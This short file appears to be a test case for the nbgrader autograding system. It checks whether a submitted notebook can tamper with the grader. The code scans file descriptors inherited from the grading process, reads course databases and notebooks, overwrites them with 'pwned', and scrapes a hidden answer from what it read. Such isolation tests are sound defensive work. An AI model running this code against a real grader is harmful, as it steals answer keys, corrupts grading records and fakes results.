# /// case
# tries = "Whatever file or socket this process has inherited from the one that grades is read, and written to."
# state = ["wrong", "crash"]
# nbgrader = "as it should be"
# ///

# %% top
import os
import re

told = ""
for number in range(3, 256):
    try:
        name = os.readlink(f"/proc/self/fd/{number}")
        if "course" in name or name.endswith((".db", ".ipynb", ".json")):
            os.lseek(number, 0, os.SEEK_SET)
            told += os.read(number, 10**7).decode(errors="replace")
            os.write(number, b"pwned")
    except OSError:
        pass

# %% largest
planet = re.findall(r'secret_of_largest = ."(\w+)', told)[0]
moons = ["Callisto", "Europa", "Ganymede", "Io"]
